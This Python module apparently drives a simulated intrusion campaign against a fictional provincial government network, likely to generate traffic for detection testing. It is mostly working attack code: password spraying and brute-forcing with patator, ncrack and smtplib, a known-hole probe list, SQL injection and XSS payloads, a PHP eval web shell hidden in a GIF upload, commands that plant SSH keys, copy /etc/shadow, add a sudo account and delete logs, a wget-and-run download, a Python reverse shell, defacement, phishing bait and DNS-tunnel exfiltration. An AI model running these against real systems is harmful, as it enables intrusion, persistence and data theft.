"""The same attacks by other tools, at other rates: patator, ncrack, hping3, dirb, wfuzz, whatweb, dns2tcp, swaks and short
scripts in place of hydra, medusa, nmap, gobuster, ffuf, wapiti, nikto and iodine; a web shell that takes its commands in
posted fields; a beacon of minutes."""

import base64
import smtplib
import time
import urllib.parse

import attacks_hosts as hosts
import attacks_web as web
import names
from attacks_web import WEB
from campaign import NAMES, wordlist
from office import LOCAL_DNS, MAIL

AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
)
SHELL = "GIF89a<?php @eval(base64_decode($_POST['z'])); ?>\n"
KNOWN_HOLES = """/.git/config /.env /.aws/credentials /wp-content/plugins/wp-file-manager/readme.txt /actuator/heapdump
/jolokia/list /manager/html /solr/admin/info/system /_ignition/execute-solution /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh
/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1
/?x=${jndi:ldap://192.0.2.9/a} /autodiscover/autodiscover.json?@evil.example/owa/ /console/css/%252e%252e%252fconsole.portal
/login.action?redirect:${%23a=1} /ws/v1/cluster/apps/new-application /nacos/v1/auth/users?pageNo=1&pageSize=9
/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd /server-status /api/jsonws/invoke
/public/plugins/alertlist/../../../../../../etc/passwd /telescope/requests /.DS_Store /geoserver/web/""".split()
PAYLOADS = """' or 1=1-- -|"><svg/onload=confirm(1)>|../../../../../../etc/passwd|;cat /etc/passwd|{{7*7}}|${7*7}
1 AND SLEEP(3)|<img src=x onerror=alert(document.domain)>|php://filter/convert.base64-encode/resource=index
file:///etc/passwd|http://169.254.169.254/latest/meta-data/|$(sleep 3)|' UNION SELECT 1,2,3-- |admin'--
javascript:alert(1)|..%252f..%252f..%252fetc/passwd|1' order by 5-- |';waitfor delay '0:0:3'--""".replace(
    "\n", "|"
).split("|")


def paced(seconds, items):
    """Hands out items evenly over so many seconds."""
    begun = time.time()
    for place, item in enumerate(items):
        time.sleep(max(0, begun + seconds * place / len(items) - time.time()))
        yield item


# Log-ins


def guess_ssh(stage, step):
    user, _, word = stage.world.keeper
    path = stage.file(step.name + ".txt", wordlist(step.rng, 40, word))
    stage.tool(
        step.space,
        f"patator ssh_login host={hosts.FILES} user={user} password=FILE0 0={path} -t 1 --rate-limit=0.3 -x quit:code=0",
        step.seconds - 0.5,
        step.name,
    )


def enter(stage, step):
    """A key left behind, the list of passwords copied, an account in the group of administrators, logs removed."""
    user, _, word = stage.world.keeper
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHhvaXhvaXhvaXhvaXhvaXhvaXhvaXhvaXhvaXhvaXhv x"
    for command in (
        "whoami; w; last -n 5; cat /etc/passwd",
        f"mkdir -p ~/.ssh && echo '{key}' >> ~/.ssh/authorized_keys",
        "sudo su -c 'cp /etc/shadow /tmp/.s; chmod 644 /tmp/.s'",
        "sudo useradd -m -s /bin/bash -G sudo svc-sync && echo svc-sync:Sync@2026 | sudo chpasswd",
        "sudo rm -f /var/log/auth.log /var/log/btmp; history -c",
    ):
        hosts.remote(stage, step, user, word, command)
        stage.clock.wait(stage.clock.now() + step.rng.uniform(30, 120))


def spray_mail(stage, step):
    people = [p[0] for p in stage.world.officials] + [stage.world.mail_weak[0]]
    step.rng.shuffle(people)
    path = stage.file(step.name + ".txt", people)
    stage.script(step, "other_tools", f"submit('{path}', '{stage.world.mail_weak[2]}', {step.seconds - 2})")


def submit(path, word, seconds):
    """One password for every account, at the submission port."""
    with open(path) as text:
        people = text.read().split()
    for person in paced(seconds, people):
        try:
            with smtplib.SMTP(MAIL, 587, "pc-01", timeout=4) as smtp:
                smtp.login(person, word)
        except (OSError, smtplib.SMTPException) as error:
            print(person, error)


def open_mailbox(stage, step):
    user, _, word = stage.world.mail_weak
    code = (
        f"import imaplib; m = imaplib.IMAP4('{MAIL}'); m.login('{user}', '{word}'); m.select(); "
        "[m.fetch(n, '(RFC822)') for n in m.search(None, 'ALL')[1][0].split()[:5]]; m.logout()"
    )
    for _ in range(2):
        stage.tool(step.space, f'/usr/bin/python3 -c "{code}"', 9, step.name)
        stage.clock.wait(stage.clock.now() + step.rng.uniform(30, 90))


def guess_ftp(stage, step):
    users = stage.file(step.name + ".users", step.rng.sample(NAMES, 6) + [stage.world.webmasters[3][0]])
    words = stage.file(step.name + ".txt", wordlist(step.rng, 15))
    stage.tool(
        step.space,
        f"ncrack -v -U {users} -P {words} --passwords-first -g CL=2,cd=100ms ftp://{hosts.FILES}",
        step.seconds - 0.5,
        step.name,
    )


def guess_vpn(stage, step):
    for n in range(8):
        login = stage.file(f"{step.name}.{n}", ["admin", step.rng.choice(wordlist(step.rng, 50))])
        stage.tool(step.space, hosts.vpn_command(stage, login), 3.2, step.name)


def mail_users(stage, step):
    path = stage.file(step.name + ".txt", NAMES + [p[0] for p in stage.world.officials[:6]])
    stage.script(step, "other_tools", f"recipients('{path}', {step.seconds - 2})")


def recipients(path, seconds):
    """Eight recipients a connection."""
    with open(path) as text:
        people = text.read().split()
    for place in range(0, len(people), 8):
        with smtplib.SMTP(MAIL, 25, "smtp.ban-hang.example", timeout=4) as smtp:
            smtp.ehlo()
            smtp.mail("info@ban-hang.example")
            for person in paced(seconds * 8 / len(people), people[place : place + 8]):
                print(smtp.rcpt(f"{person}@{names.DOMAIN}"))


# Portals


def scan_ports(stage, step):
    ports = "1-120,443,445,993,1433,3306,3389,5432,6379,8000,8080,8443,9200,27017"
    for last in (10, 11, 12, 13, 14, 5):
        stage.tool(step.space, f"hping3 -S --scan {ports} 203.0.113.{last}", 4, step.name)


def scan_slowly(stage, step):
    """A port of 80 every 200 seconds."""
    first = stage.clock.now()
    for n, port in enumerate(step.rng.sample(range(1, 10_000), 80)):
        stage.clock.wait(first + n * 200)
        stage.tool(step.space, f"hping3 -q -c 1 -S -p {port} {step.answer['target']}", 2, step.name)


def ask(stage, step, paths, more=""):
    """Each path as it is written, with the agent of a browser."""
    for path in paths:
        stage.tool(
            step.space,
            f"curl -s -o /dev/null -m 3 --path-as-is -g -A '{AGENT}' -H 'Host: {step.answer['target']}' {more} "
            f"'http://{WEB}{path}'",
            3,
            step.name,
        )


def known_holes(stage, step):
    stage.tool(
        step.space,
        f"whatweb -q -a 3 --user-agent '{AGENT}' --header 'Host: {step.answer['target']}' http://{WEB}/",
        step.seconds * 0.4,
        step.name,
    )
    ask(stage, step, KNOWN_HOLES)


def injections(stage, step):
    path = stage.file(step.name + ".txt", [urllib.parse.quote(p) for p in PAYLOADS] * 3)
    stage.tool(
        step.space,
        f"wfuzz -t 2 -s 0.2 -H 'Host: {step.answer['target']}' -H 'User-Agent: {AGENT}' -w {path} "
        f"'http://{WEB}/tim-kiem.php?q=FUZZ'",
        step.seconds - 0.5,
        step.name,
    )


def find_pages(stage, step):
    path = stage.file(step.name + ".txt", web.WORDS + NAMES)
    stage.tool(
        step.space,
        f"dirb http://{WEB}/ {path} -a '{AGENT}' -H 'Host: {step.answer['target']}' -r -S -z 40 -X ,.php",
        step.seconds - 0.5,
        step.name,
    )


def probe_agencies(stage, step, paths=("/quan-tri/dang-nhap.php", "/wp-login.php", "/.env")):
    asked = [(host, path) for host, _ in names.AGENCIES for path in paths]
    for host, path in paced(step.seconds - 1, asked):
        stage.tool(
            step.space,
            f"curl -s -o /dev/null -m 3 -A '{AGENT}' -H 'Host: {web.host(host)}' http://{WEB}{path}",
            3,
            step.name,
        )


def sqlmap(stage, step):
    stage.tool(
        step.space,
        f"HOME={stage.folder} sqlmap -u 'http://{WEB}/tra-cuu?ma=H00007' -H 'Host: {step.answer['target']}' --batch "
        "--flush-session --random-agent --technique=BU --tamper=space2comment,randomcase --level 1 -T hoso --dump "
        "--stop 10 --delay 0.05",
        step.seconds - 0.5,
        step.name,
    )


def guess_form(stage, step):
    path = stage.file(step.name + ".txt", wordlist(step.rng, 120))
    user = step.rng.choice(stage.world.citizens)[0]
    stage.tool(
        step.space,
        f"wfuzz -t 1 -s 0.25 -w {path} -d 'ten={user}&mat-khau=FUZZ' -H 'Host: {step.answer['target']}' "
        f"-H 'User-Agent: {AGENT}' http://{WEB}/dang-nhap",
        step.seconds - 0.5,
        step.name,
    )


def php(stage, step, code, seconds=8):
    """Code for the shell, in a posted field."""
    field = urllib.parse.quote(base64.b64encode(code.encode()).decode())
    stage.tool(
        step.space,
        f"curl -s -m {seconds - 1} -A '{AGENT}' -H 'Host: {step.site}' -d 'z={field}' http://{WEB}/tep-tin/{step.shell}",
        seconds,
        step.name,
    )


def upload_shell(stage, step):
    path = stage.file(step.shell, [SHELL])
    web.web(stage, step, "/quan-tri/dang-nhap.php")
    stage.clock.wait(stage.clock.now() + 60)
    web.web(stage, step, "/quan-tri/tai-len.php", f"-F 'anh=@{path};type=image/gif;filename={step.shell}'")


def through_shell(stage, step):
    def run(command):
        php(stage, step, f"echo shell_exec({command!r});")
        stage.clock.wait(stage.clock.now() + step.rng.uniform(20, 60))

    for command in ("whoami", "hostname; id", "cat /etc/hosts", "find /srv -perm -2 -type d | head", "ss -tln"):
        run(command)
    run(f"wget -q http://{step.server}/tool.sh -O /var/tmp/kworker; chmod +x /var/tmp/kworker; /var/tmp/kworker")
    asked = "(sleep 1; for c in id pwd 'ls /etc/cron.d' 'cat /etc/crontab'; do echo $c; sleep 0.5; done; sleep 1; echo exit)"
    listener = stage.place.spawn(
        step.listen, ["sh", "-c", asked + " | timeout 12 nc -l -n -p 8443"], stdout=-3, stderr=-3
    )
    time.sleep(0.3)
    run(
        'nohup python3 -c "import socket,os;s=socket.socket();s.connect((%r,8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
        "os.system('/bin/sh')\" >/dev/null 2>&1 &" % step.server
    )
    listener.wait(15)


def inner_scan(stage, step):
    """From within PHP: no program is run for it."""
    for net in ("10.20.2", "10.20.10"):
        code = (
            "foreach([20,30,21,25,26,27,40,41] as $i){foreach([22,80,445,3306,8000] as $p){"
            f"$s=@fsockopen('{net}.'.$i,$p,$e,$m,0.08);if($s)echo \"$i:$p \";"
            "}}"
        )
        php(stage, step, code, 12)


def deface(stage, step):
    text = "<h1>Da bi xam nhap - 0wned by NightCrew</h1>"
    php(stage, step, f"file_put_contents('/srv/www/soxaydung/index.html','{text}');")
    stage.clock.wait(stage.clock.now() + 40)
    web.web(stage, step, "/")


# Inside


def send_bait(stage, step):
    to = stage.world.officials[step.victim][0]
    path = f"{stage.folder}/Giay-moi-hop.iso"
    with open(path, "wb") as out:
        out.write(b"\0" * 32768 + b"\1CD001\1\0" + b"\0" * 2000 + b"GIAY_MOI.LNK" + b"\0" * 2000)
    stage.tool(
        step.space,
        f"swaks --server {MAIL} --helo mx.sonoivu-dh.example --from vanphong@sonoivu-dh.example --to {to}@{names.DOMAIN} "
        "--header 'Subject: Giay moi hop khan' --body 'Kinh gui anh chi, xem tep dinh kem.' "
        f"--attach-type application/x-iso9660-image --attach @{path}",
        step.seconds - 0.5,
        step.name,
    )


def tunnel(stage, step):
    """dns2tcp through the province's own resolver, a file sent through it."""
    end = time.time() + step.seconds - 1
    inside = stage.place.spawn(
        step.space,
        ["dns2tcpc", "-z", step.domain, "-r", "nc", "-l", "2222", "-k", "mat-khau", "-T", "TXT", LOCAL_DNS],
        stdout=-3,
        stderr=-3,
    )
    time.sleep(2)
    stage.tool(
        step.space,
        "head -c 30000 /dev/urandom | base64 | timeout 18 nc -q 3 -w 8 127.0.0.1 2222",
        max(1.0, end - time.time() - 1),
        step.name,
    )
    time.sleep(max(0.0, end - time.time()))
    inside.terminate()


def serve_tunnel(place, step, folder):
    path = folder + "/dns2tcpd.conf"
    with open(path, "w") as out:
        out.write(
            f"listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {step.domain}\nkey = mat-khau\n"
            "resources = nc:127.0.0.1:7000\n"
        )
    place.spawn("ham", ["dns2tcpd", "-F", "-f", path], stdin=-3, stdout=-3, stderr=-3)


# Attack to what does it, with which tool, seconds of the run, seconds of the day for each
CHANGES = {
    "guess-ssh": (guess_ssh, "patator", 30, 50),
    "enter-ssh": (enter, "ssh", 14, 40),
    "spray-mail": (spray_mail, "python smtplib", 22, 40),
    "open-mailbox": (open_mailbox, "python imaplib", 6, 30),
    "guess-ftp": (guess_ftp, "ncrack", 20, 25),
    "guess-vpn": (guess_vpn, "openvpn", 28, 25),
    "mail-users": (mail_users, "python smtplib", 14, 20),
    "scan-ports": (scan_ports, "hping3", 20, 6),
    "slow-scan": (scan_slowly, "hping3", 0, 0),
    "nikto": (known_holes, "whatweb, curl", 22, 20),
    "wapiti": (injections, "wfuzz", 25, 6),
    "find-pages": (find_pages, "dirb", 24, 6),
    "probe-agencies": (probe_agencies, "curl", 20, 60),
    "sqlmap": (sqlmap, "sqlmap", 40, 4),
    "guess-form": (guess_form, "wfuzz", 20, 20),
    "upload-shell": (upload_shell, "curl", 6, 25),
    "commands": (through_shell, "curl, python3, nc", 26, 20),
    "inner-scan": (inner_scan, "php", 24, 3),
    "deface": (deface, "curl", 6, 12),
    "bait": (send_bait, "swaks", 5, 2),
    "tunnel": (tunnel, "dns2tcp", 28, 10),
    "drain": (None, "own client", 16, 120),
}
